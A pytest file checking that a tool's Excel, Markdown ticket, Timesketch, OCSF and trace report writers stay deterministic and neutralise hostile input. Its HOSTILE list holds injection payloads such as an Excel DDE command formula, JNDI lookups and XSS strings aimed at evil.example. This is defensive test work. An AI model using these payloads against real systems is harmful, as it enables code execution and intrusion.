"""Workbook, ticket, Timesketch, OCSF and trace: right, inert and the same every time, whatever the evidence says."""

import copy
import io
import json
import re
from collections import defaultdict
from datetime import UTC, datetime

import incident
import openpyxl
import pytest
from handouts import AS_OF, document, frames, replaced
from markdown_it import MarkdownIt

import ecs_trail as et
from ecs_trail.errors import MissingExtraError, UsageError
from ecs_trail.views import workbook as workbook_module
from ecs_trail.views.ocsf import detection_findings
from ecs_trail.views.text import clean
from ecs_trail.views.ticket import block, code, safe, ticket
from ecs_trail.views.timesketch import timesketch
from ecs_trail.views.trace import trace
from ecs_trail.views.workbook import MOST_CHARACTERS, workbook
from ecs_trail.views.writers import WRITERS, writer_for

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '=HYPERLINK("http://evil.example","x")',
    "```\n# owned\n```",
    "` `` ```",
    "a | b || c",
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "@everyone #123 !4 owner/repo#5 GH-6 :tada: ~label",
    "www.evil.example http://evil.example mail@evil.example",
    "\x1b[2J\x07\x00\u202egnp\u200b\ufeff",
    "\ud800 alone \udfff",
    "1. one\r\n- two\n---\n> quote",
    '","message":"forged',
    "{{7*7}} ${jndi:ldap://evil.example} %00 \\",
    "\U0001f4a9",
    "",
)


@pytest.fixture(scope="module")
def case():
    return et.investigate("sample_logs")


@pytest.fixture(scope="module")
def extra(case):
    return {"events": case.events, "volume_calls": case.volume_calls}


def hostile(text: str) -> dict:
    return replaced(document(lambda name: "word"), lambda name: text)


def with_surrogates_shown(text: str) -> str:
    return text.encode("utf-8", "backslashreplace").decode()


@pytest.mark.parametrize("suffix", WRITERS)
def test_equal_evidence_gives_equal_bytes_and_the_document_is_left_alone(suffix, case, extra):
    before = copy.deepcopy(case.document)
    again = et.investigate("sample_logs")
    one = WRITERS[suffix](case.document, extra)
    assert one == WRITERS[suffix](again.document, {"events": again.events, "volume_calls": again.volume_calls})
    assert case.document == before


@pytest.mark.parametrize("suffix", WRITERS)
@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_hostile_text_in_every_field_breaks_no_format(suffix, text):
    data = WRITERS[suffix](hostile(text), frames(lambda name: with_surrogates_shown(text)))
    if suffix == ".xlsx":
        assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames[0] == "summary"
        return
    shown = data.decode("utf-8")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202e\u200b]", shown)
    if suffix.endswith("jsonl"):
        assert all(isinstance(json.loads(line), dict) for line in shown.splitlines())
    elif suffix.endswith("json"):
        json.loads(shown)


@pytest.mark.parametrize("make", [incident.quiet, incident.nothing, incident.broken, incident.over, incident.partial])
@pytest.mark.parametrize("suffix", WRITERS)
def test_documents_of_hand_are_written_too(suffix, make):
    data = WRITERS[suffix](make() | {"contradictions": []}, {})
    assert data or not make()["findings"]  # lines of no findings are no lines


def test_the_longest_suffix_decides():
    assert writer_for("a.timesketch.jsonl") is WRITERS[".timesketch.jsonl"]
    assert writer_for("dir.json/b.OCSF.JSON") is WRITERS[".ocsf.json"]
    assert writer_for("b.trace.json") is WRITERS[".trace.json"]
    with pytest.raises(UsageError, match=r"names no kind of report"):
        writer_for("report.docx")


# -- workbook ---------------------------------------------------------------------------------------------------------


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_the_workbook_has_typed_filtered_sheets(case):
    book = opened(workbook(case.document))
    wanted = ["summary", "findings", "tasks", "volumes", "tls", "outages", "changes"]
    assert book.sheetnames[:7] == wanted
    assert book.sheetnames[-1] == "evidence"
    sheet, rows = book["tasks"], case.document["tasks"]
    heads = [cell.value for cell in sheet[1]]
    assert heads[:2] == ["task_arn", "cluster"]
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.freeze_panes == "B2"
    assert sheet.max_row == len(rows) + 1
    stopped = heads.index("stop_started_at (UTC)")
    first = next(at for at, row in enumerate(rows) if row["stop_started_at"])
    cell = sheet.cell(first + 2, stopped + 1)
    assert cell.is_date
    assert cell.value.replace(tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:%SZ") == rows[first]["stop_started_at"]
    assert sheet.cell(first + 2, heads.index("at_risk") + 1).value is rows[first]["at_risk"]
    assert 9 <= sheet.column_dimensions["A"].width <= 62
    sizes = [cell.value for cell in book["volumes"][openpyxl.utils.get_column_letter(6)]][1:]
    assert sizes == [row["size_gib"] for row in case.document["volumes"]]
    assert any("UTC" in str(cell.value) for row in book["summary"].rows for cell in row)


def test_every_cell_of_the_document_is_in_its_sheet(case):
    book = opened(workbook(case.document))
    for name in ("changes", "findings", "outages"):
        shown = {str(cell.value) for row in book[name].rows for cell in row}
        for row in case.document[name]:
            assert {str(v) for k, v in row.items() if isinstance(v, str) and v[10:11] != "T" and "\n" not in v} <= shown


@pytest.mark.parametrize("start", "=+-@＝＋－＠")
def test_no_cell_is_a_formula_or_a_link_and_its_text_is_whole(start):
    text = f"{start}cmd|' /C calc'!A0"
    book = opened(workbook(hostile(text)))
    seen = 0
    for sheet in book:
        assert not sheet._hyperlinks
        for row in sheet.rows:
            for cell in row:
                assert cell.data_type != "f"
                if cell.value == text:
                    seen += 1
                    assert cell.quotePrefix
    assert seen > 50


def test_what_excel_cannot_hold_is_cut_and_said():
    made = incident.broken() | {"contradictions": []}
    made["changes"][0]["document"] = "x" * 40_000
    made["tasks"][0]["saved_reason"] = "\U0001f4a9" * 20_000
    book = opened(workbook(made, most_rows=3))
    said = [str(row[1].value) for row in book["summary"].rows if row[0].value == "cut here"]
    assert any("changes: 1 of 3 rows" in one for one in said)
    assert any("changes!document, row 2: 40,000 characters" in one for one in said)
    assert any("40,000 characters" in one and "tasks" in one for one in said)
    cells = [str(cell.value) for sheet in book for row in sheet.rows for cell in row]
    assert max(len(cell.encode("utf-16-le")) // 2 for cell in cells) == MOST_CHARACTERS
    assert sum(cell.endswith("… [cut]") for cell in cells) == 2


def test_times_beyond_excel_stay_text():
    made = incident.broken() | {"contradictions": []}
    made["tasks"][0]["blocked_since"] = "0001-01-01T00:00:00Z"
    made["tasks"][1]["launched_at"] = "2026-99-99T99:99:99Z"
    cells = {str(cell.value) for row in opened(workbook(made))["tasks"].rows for cell in row}
    assert {"0001-01-01T00:00:00Z", "2026-99-99T99:99:99Z"} <= cells


def test_without_the_extra_the_way_out_is_named(monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "xlsxwriter", None)
    with pytest.raises(MissingExtraError, match=r"ecs-trail\[xlsx\]"):
        workbook_module.workbook(incident.quiet())


# -- ticket -----------------------------------------------------------------------------------------------------------

MARKDOWN = MarkdownIt("gfm-like", {"linkify": False, "html": True})


def parts(text: str):
    """Tokens of a Markdown text, the inline ones flat."""
    for token in MARKDOWN.parse(text):
        yield token
        yield from token.children or ()


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_hostile_text_is_inert_in_markdown(text):
    made = incident.broken() | {"contradictions": []}
    made = replaced(made, lambda name: text if name not in {"status", "severity", "kind", "id", "outage_id"} else name)
    kinds = defaultdict(int)
    for token in parts(ticket(made).decode()):
        kinds[token.type] += 1
        if token.type == "text":
            assert not re.search(r"[@#<>`\[\]|~&*_\\]|www\.|//|:[a-z]+:|GH-\d", token.content), token.content
    assert not {"link_open", "image", "html_block", "html_inline", "table_open", "blockquote_open", "hr"} & set(kinds)
    assert not {"ordered_list_open", "code_block"} & set(kinds)


@pytest.mark.parametrize("text", HOSTILE[:-1], ids=lambda text: repr(text[:12]))
def test_markdown_shows_the_very_characters(text):
    for made in (safe(text), code(text)):
        shown = "".join(t.content for t in parts(f"x {made}") if t.type in {"text", "code_inline"})
        assert " ".join(shown.split()) == " ".join(f"x {clean(text)}".split())


def test_commands_cannot_leave_their_fence():
    lines = ("aws iam delete-role --role-name '```'", "echo '````'", "~~~")
    fences = [token for token in MARKDOWN.parse(f"{block(lines)}\n\nafter") if token.type == "fence"]
    assert [fence.content for fence in fences] == ["\n".join(lines) + "\n"]


def test_the_ticket_tells_the_story():
    text = ticket(incident.broken() | {"contradictions": []}).decode()
    for wanted in (
        "# 2 tasks hang",
        "## Cause",
        "`DetachRolePolicy`",
        "## Impact",
        "## Repair",
        "```sh\naws iam create-role",
    ):
        assert wanted in text
    assert text.index("## Cause") < text.index("## Impact") < text.index("## Repair") < text.index("## Not seen")


# -- Timesketch -------------------------------------------------------------------------------------------------------


def read_lines(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode("ascii").splitlines()]


@pytest.mark.parametrize("made", ["sample", "hostile"])
def test_timesketch_lines_import_without_a_mapping(made, case, extra):
    if made == "sample":
        lines = read_lines(timesketch(case.document, extra))
        assert sum(line["timestamp_desc"] == "CloudTrail event" for line in lines) == len(case.events)
    else:
        lines = read_lines(timesketch(hostile("@x"), frames(lambda name: "@x")))
    kinds = defaultdict(set)
    for line in lines:
        assert isinstance(line["message"], str)
        assert line["message"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", line["datetime"])
        assert type(line["timestamp"]) is int
        assert datetime.fromisoformat(line["datetime"]).timestamp() * 1_000_000 == line["timestamp"]
        assert isinstance(line["timestamp_desc"], str)
        assert line["timestamp_desc"]
        assert not {"_id", "_type", "_index", "_source", "__ts_timeline_id"} & set(line)
        for name, field in line.items():
            kinds[name].add(type(field[0] if isinstance(field, list) else field).__name__)
            assert not isinstance(field, dict)
            assert not isinstance(field, list) or all(isinstance(one, str) for one in field)
    assert {name: found for name, found in kinds.items() if len(found) > 1} == {}
    assert [line["timestamp"] for line in lines] == sorted(line["timestamp"] for line in lines)


def test_every_moment_of_the_document_is_on_the_timeline(case):
    lines = read_lines(timesketch(case.document))
    found = {(line["timestamp_desc"], line["datetime"].replace("+00:00", "Z")) for line in lines}
    for row in case.document["volumes"]:
        assert not row["created_at"] or ("Volume created", row["created_at"]) in found
    for row in case.document["changes"]:
        assert ("Role change", row["event_time"]) in found


# -- OCSF -------------------------------------------------------------------------------------------------------------

#: Object -> attributes it may have; a "!" marks a required one. From the schema of version 1.8.0, what we use of it.
OCSF = {
    "detection_finding": "activity_id! activity_name category_uid! category_name class_uid! class_name type_uid! "
    "type_name severity_id! severity status_id status confidence_id confidence is_alert time! start_time end_time "
    "message metadata!:metadata cloud!:cloud finding_info!:finding_info evidences:evidences resources:resource_details "
    "remediation:remediation unmapped:json",
    "metadata": "version! product!:product profiles uid correlation_uid log_name",
    "product": "name vendor_name feature:feature",
    "feature": "name",
    "cloud": "provider! account:account region",
    "account": "uid type_id type",
    "finding_info": "uid! title desc types analytic:analytic data_sources first_seen_time last_seen_time created_time "
    "related_events:related_event related_events_count",
    "analytic": "name uid type_id! type",
    "related_event": "uid! type",
    "evidences": "uid name api:api actor:actor src_endpoint:endpoint http_request:http_request data:json",
    "api": "operation! request:request",
    "request": "uid!",
    "actor": "user:user",
    "user": "uid name",
    "endpoint": "ip svc_name",
    "http_request": "user_agent",
    "resource_details": "uid name type role_id role region cloud_partition owner:owner",
    "owner": "account:account",
    "remediation": "desc!",
}
ENUMS = {
    "activity_id": {1: "Create", 3: "Close"},
    "severity_id": {0: "Unknown", 2: "Low", 3: "Medium", 4: "High", 5: "Critical"},
    "status_id": {1: "New", 4: "Resolved"},
    "confidence_id": {0: "Unknown", 1: "Low", 2: "Medium", 3: "High"},
}


def check(kind: str, found: object, where: str = "") -> None:
    if isinstance(found, list):
        for one in found:
            check(kind, one, where)
        return
    rules = dict([*word.split(":"), ""][:2] for word in OCSF[kind].split())
    allowed = {name.rstrip("!"): (name.endswith("!"), inner) for name, inner in rules.items()}
    assert isinstance(found, dict), where
    assert set(found) <= set(allowed), (where, set(found) - set(allowed))
    assert {name for name, (required, _) in allowed.items() if required} <= set(found), where
    for name, inner in found.items():
        assert inner is not None
        if allowed[name][1] not in ("", "json"):
            check(allowed[name][1], inner, f"{where}.{name}")
        elif name.endswith(("_id", "_uid", "_time", "time")) and kind == "detection_finding":
            assert type(inner) is int, name


@pytest.mark.parametrize("made", ["sample", "hostile", "hand"])
def test_ocsf_findings_hold_to_the_schema(made, case):
    documents = {"sample": lambda: case.document, "hostile": lambda: hostile("@x"), "hand": incident.partial}
    source = documents[made]()
    found = detection_findings(source)
    assert len(found) == len(source["findings"])
    for one, finding in zip(found, source["findings"], strict=True):
        check("detection_finding", one)
        assert (one["category_uid"], one["class_uid"]) == (2, 2004)
        assert one["type_uid"] == 200400 + one["activity_id"]
        for name, words in ENUMS.items():
            sibling = name.replace("_id", "_name" if name == "activity_id" else "")
            assert words[one[name]] == one[sibling]
        events = {*finding["cause_event_ids"], *finding["evidence"]}
        assert {entry["uid"] for entry in one["evidences"]} == events
        assert {entry["uid"] for entry in one["finding_info"]["related_events"]} == events
        things = {*finding["task_arns"], *finding["volume_ids"], *finding["secret_arns"]}
        assert things <= {entry["uid"] for entry in one["resources"]}
        assert one["metadata"]["version"] == "1.8.0"


def test_the_schema_check_can_fail(case):
    one = detection_findings(case.document)[0]
    check("detection_finding", one)
    without, strange, inside = (copy.deepcopy(one) for _ in range(3))
    del without["finding_info"]
    strange["colour"] = 1
    del inside["evidences"][0]["api"]["operation"]
    for bad in (without, strange, inside):
        with pytest.raises(AssertionError):
            check("detection_finding", bad)


def test_evidence_of_a_change_names_caller_call_and_place():
    found = detection_findings(incident.broken())
    main = next(one for one in found if one["unmapped"]["ecs_trail_id"] == "finding-1")
    first = main["evidences"][0]
    assert first["api"]["operation"] == "DetachRolePolicy"
    assert first["src_endpoint"] == {"ip": "203.0.113.20"}
    assert first["actor"]["user"]["uid"].endswith("ci-deployer/pipeline-4711")
    assert main["cloud"]["account"]["uid"] == "111122223333"
    assert "aws iam create-role" in main["remediation"]["desc"]


def test_a_finding_keeps_its_name_when_it_is_over():
    ongoing = next(o for o in detection_findings(incident.broken()) if o["unmapped"]["ecs_trail_id"] == "finding-1")
    over = detection_findings(incident.over())[0]
    assert over["finding_info"]["uid"] == ongoing["finding_info"]["uid"]
    assert (over["activity_id"], over["status_id"], over["is_alert"]) == (3, 4, False)


# -- trace ------------------------------------------------------------------------------------------------------------


def sound_trace(data: bytes) -> list[dict]:
    """The events of a trace, checked as a viewer would read them."""
    read = json.loads(data)
    assert read["displayTimeUnit"] in {"ms", "ns"}
    events = read["traceEvents"]
    named = {(e["pid"], e["tid"]) for e in events if e["name"] == "thread_name"}
    processes = {e["pid"] for e in events if e["name"] == "process_name"}
    assert len({tid for _, tid in named}) == len(named)
    times = [event["ts"] for event in events]
    assert times == sorted(times)
    lanes = defaultdict(list)
    for event in events:
        assert event["ph"] in {"X", "i", "M"}
        assert type(event["ts"]) is int
        assert isinstance(event["name"], str)
        assert event["name"]
        assert isinstance(event["args"], dict)
        if event["ph"] == "M":
            continue
        assert (event["pid"], event["tid"]) in named
        assert event["pid"] in processes
        if event["ph"] == "X":
            assert type(event["dur"]) is int
            assert event["dur"] >= 0
            lanes[event["pid"], event["tid"]].append((event["ts"], event["ts"] + event["dur"]))
        else:
            assert event["s"] == "t"
    for spans in lanes.values():
        open_ends: list[int] = []
        for start, end in spans:
            while open_ends and open_ends[-1] <= start:
                open_ends.pop()
            assert not open_ends or end <= open_ends[-1], "slices of one thread must nest or lie apart"
            open_ends.append(end)
    return events


def test_the_trace_of_the_sample_opens(case, extra):
    events = sound_trace(trace(case.document, extra))
    outages = [event for event in events if event["ph"] == "X" and event["pid"] == 1]
    assert len(outages) == len(case.document["outages"])
    first = min(case.document["outages"], key=lambda row: row["start"])
    assert min(e["ts"] for e in outages) == datetime.fromisoformat(first["start"]).timestamp() * 1_000_000
    marks = [event for event in events if event["ph"] == "i"]
    assert sum(event["pid"] == 1 for event in marks) == sum(len(row["role_arns"]) for row in case.document["changes"])
    assert any(event["name"].endswith("denied") for event in marks)
    tasks = {event["args"]["task_arn"] for event in events if event["pid"] == 2 and event["ph"] == "X"}
    assert tasks == {row["task_arn"] for row in case.document["tasks"]}


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_the_trace_of_hostile_evidence_opens(text):
    sound_trace(trace(hostile(text), frames(lambda name: with_surrogates_shown(text))))


def test_spans_that_cross_take_two_threads():
    made = incident.broken()
    outage = made["outages"][0]
    made["outages"] = [
        outage | {"start": "2026-03-02T10:00:00Z", "end": "2026-03-02T12:00:00Z"},
        outage | {"start": "2026-03-02T11:00:00Z", "end": "2026-03-02T13:00:00Z"},
        outage | {"start": "2026-03-02T12:30:00Z", "end": None},
    ]
    events = sound_trace(trace(made))
    assert len({event["tid"] for event in events if event["pid"] == 1 and event["ph"] == "X"}) == 2


def test_the_trace_check_can_fail():
    good = json.loads(trace(incident.broken()))
    crossed = copy.deepcopy(good)
    span = next(e for e in crossed["traceEvents"] if e["ph"] == "X" and e["dur"] > 2)
    crossed["traceEvents"].append(span | {"ts": span["ts"] + 1})
    unsorted = copy.deepcopy(good)
    unsorted["traceEvents"].reverse()
    for bad in (crossed, unsorted):
        with pytest.raises(AssertionError):
            sound_trace(json.dumps(bad).encode())


def test_the_moment_of_the_document_is_that_of_the_fixture():
    assert document(lambda name: "x")["as_of"] == AS_OF.strftime("%Y-%m-%dT%H:%M:%SZ")
